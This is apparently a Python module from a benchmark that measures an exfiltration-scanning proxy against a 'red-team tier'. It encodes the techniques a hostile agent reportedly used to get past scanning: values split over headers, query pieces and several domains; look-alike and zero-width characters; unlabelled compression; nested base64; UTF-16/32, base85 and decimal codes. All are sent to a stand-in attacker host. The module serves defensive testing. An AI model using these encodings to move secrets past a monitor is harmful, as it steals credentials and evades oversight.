"""The red-team tier: what a hostile agent tried against `proxy run` from outside.

Issue 15 lists the techniques that got past scanning in an attack on the real proxy:
a value over two or four headers, five-character pieces, pieces to two or three
registrable domains, Unicode separators and look-alike letters, compressed bodies
without `Content-Encoding`, deeply nested encodings, UTF-16/32, base85, decimal
character codes. Each is a technique here, so every run measures them against known
values and patterns alike. Bodies are sent as raw bytes where a JSON string would
escape them (`json.dumps` turns U+2010 into `\\u2010`, a different attack).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import random
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable

import brotli
from bench.exfil.cases import TECHNIQUES, TIERS, Step, Technique, b64
from bench.exfil.redteam_sweep import CLOSED, junk_after
from bench.exfil.world import ATTACKER

REDTEAM_TIER = "redteam"


def _raw(encode: Callable[[bytes], bytes], content_type: str = "text/plain") -> Technique:
    """A POST whose body is exactly `encode(value)`, with no Content-Encoding."""

    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        body = encode(value)
        path = f"/drop/{rng.randint(1, 999)}"
        step = Step(
            "http", ATTACKER, path=path, body=body, headers=(("content-type", content_type),)
        )
        return [step], [body]

    return technique


def _framed(value: bytes) -> bytes:
    """The value inside a line of ordinary text, as a leaked file would carry it."""
    return b"export TOKEN=" + value + b"\n"


def _between(separator: str) -> Callable[[bytes], bytes]:
    return lambda v: separator.join(v.decode()).encode()


# Letters drawn like Latin ones: Cyrillic and Greek capitals and small letters.
_LOOKALIKE = str.maketrans(
    "aceopxyABCEHIKMNOPTXYZ",
    "\u0430\u0441\u0435\u043e\u0440\u0445\u0443\u0410\u0412\u0421\u0415\u041d\u0406\u041a\u041c\u039d\u041e\u0420\u0422\u0425\u03a5\u0396",
)


def _lookalike(value: bytes) -> bytes:
    return value.decode().translate(_LOOKALIKE).encode()


def _fullwidth(value: bytes) -> bytes:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in value.decode()).encode()


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _zip(data: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("notes.txt", data)
    return out.getvalue()


def _b64_gzip_twice(value: bytes) -> bytes:
    return b64(gzip.compress(b64(gzip.compress(value))))


def _b64_times(layers: int) -> Callable[[bytes], bytes]:
    def encode(value: bytes) -> bytes:
        for _ in range(layers):
            value = b64(value)
        return value

    return encode


def _behind_a_token(value: bytes) -> bytes:
    """base64(gzip) as the second long token of a JSON body: a compression signature
    that is not at the start of the decoded view."""
    session = b64(b"an ordinary session token").decode()
    return json.dumps({"session": session, "d": b64(gzip.compress(value)).decode()}).encode()


def _split_headers(parts: int) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        size = -(-len(value) // parts)
        pieces = [value[i : i + size] for i in range(0, len(value), size)]
        names = rng.sample(["x-trace", "x-span", "x-client", "x-build", "x-region"], len(pieces))
        headers = tuple(zip(names, (p.decode() for p in pieces), strict=True))
        return [Step("http", ATTACKER, "GET", "/", headers=headers)], pieces

    return technique


def _split_domains(domains: int, size: int = 8) -> Technique:
    """Pieces in order, round-robin over `domains` registrable domains (`attacker.example`,
    `b-attacker.example`, ...); each domain on its own never holds most of the value."""

    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        pieces = [value[i : i + size] for i in range(0, len(value), size)]
        hosts = [ATTACKER, *(f"{chr(ord('b') + k)}-{ATTACKER}" for k in range(domains - 1))]
        steps = [
            Step("http", hosts[n % domains], "GET", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}")
            for n, p in enumerate(pieces)
        ]
        return steps, pieces

    return technique


def _split_query(size: int) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        pieces = [value[i : i + size] for i in range(0, len(value), size)]
        steps = [
            Step("http", ATTACKER, "GET", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}")
            for n, p in enumerate(pieces)
        ]
        return steps, pieces

    return technique


def _b85_query(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    quoted = urllib.parse.quote(base64.b85encode(value), safe="")
    return [Step("http", ATTACKER, "GET", f"/c?d={quoted}")], [quoted.encode()]


def _decimal(value: bytes) -> bytes:
    return ",".join(str(c) for c in value).encode()


def _interleave(value: bytes) -> bytes:
    junk = b"qzjxkv"
    return bytes(b for i, c in enumerate(value) for b in (c, junk[i % len(junk)]))


def _junk_irregular(value: bytes) -> bytes:
    """A junk letter after every 5 to 9 real characters, the stretch chosen at random
    (seeded by the value, so a case is reproducible): no one period to guess."""
    rng = random.Random(value)
    out, at = bytearray(), 0
    while at < len(value):
        step = rng.randint(5, 9)
        out += value[at : at + step] + bytes([rng.choice(b"qzjxkvwy")])
        at += step
    return bytes(out)


_ROT13 = str.maketrans(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
    "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
)

REDTEAM: dict[str, tuple[str, Technique]] = {
    name: (REDTEAM_TIER, technique)
    for name, technique in {
        "rt-headers-2": _split_headers(2),
        "rt-headers-4": _split_headers(4),
        "rt-pieces-5": _split_query(5),
        "rt-domains-2": _split_domains(2),
        "rt-domains-3": _split_domains(3),
        "rt-hyphen-u2010": _raw(_between("\u2010")),
        "rt-middot": _raw(_between("\u00b7")),
        "rt-bullet-operator": _raw(_between("\u2219")),
        "rt-zero-width": _raw(_between("\u200b")),
        "rt-fullwidth": _raw(_fullwidth),
        "rt-lookalike": _raw(_lookalike),
        "rt-raw-deflate": _raw(lambda v: _raw_deflate(_framed(v)), "application/octet-stream"),
        "rt-bzip2": _raw(lambda v: bz2.compress(_framed(v)), "application/octet-stream"),
        "rt-xz": _raw(lambda v: lzma.compress(_framed(v)), "application/octet-stream"),
        "rt-brotli": _raw(lambda v: brotli.compress(_framed(v)), "application/octet-stream"),
        "rt-zip": _raw(lambda v: _zip(_framed(v)), "application/zip"),
        "rt-zip-bzip2": _raw(lambda v: _zip(_framed(v), zipfile.ZIP_BZIP2), "application/zip"),
        "rt-zip-after-junk": _raw(lambda v: b"#!/bin/sh\n" + _zip(_framed(v)), "text/x-sh"),
        "rt-b64-gzip-x2": _raw(_b64_gzip_twice),
        "rt-b64-x4": _raw(_b64_times(4)),
        "rt-b64-x6": _raw(_b64_times(6)),
        "rt-b64-gzip-second": _raw(_behind_a_token, "application/json"),
        "rt-utf16": _raw(lambda v: _framed(v).decode().encode("utf-16")),
        "rt-utf16-be": _raw(lambda v: _framed(v).decode().encode("utf-16-be")),
        "rt-utf32": _raw(lambda v: _framed(v).decode().encode("utf-32")),
        "rt-b64-utf16": _raw(lambda v: b64(_framed(v).decode().encode("utf-16-le"))),
        "rt-base85": _raw(base64.b85encode),
        "rt-base85-query": _b85_query,
        "rt-ascii85": _raw(lambda v: base64.a85encode(v, adobe=True)),
        "rt-decimal": _raw(_decimal),
        "rt-junk": _raw(_interleave),
        "rt-reversed": _raw(lambda v: v[::-1]),
        "rt-rot13": _raw(lambda v: v.decode().translate(_ROT13).encode()),
        "rt-swapcase": _raw(bytes.swapcase),
        "rt-base32": _raw(base64.b32encode),
        **CLOSED,  # the second round
        # The third: a password of words in 5-character pieces over three domains,
        # 3-character pieces to one site.
        "rt-domains-3-words": _split_domains(3, 5),
        "rt-pieces-3": _split_query(3),
        # The fourth: 2-character pieces to one site, 3-character pieces round-robin
        # over three domains, one junk character after every five, eight or 5-9.
        "rt-pieces-2": _split_query(2),
        "rt-domains-3-pieces-3": _split_domains(3, 3),
        "rt-junk-every-5": _raw(junk_after(5)),
        "rt-junk-every-8": _raw(junk_after(8)),
        "rt-junk-every-5-to-9": _raw(_junk_irregular),
    }.items()
}

ALL_TECHNIQUES: dict[str, tuple[str, Technique]] = {**TECHNIQUES, **REDTEAM}
ALL_TIERS = (*TIERS, REDTEAM_TIER)
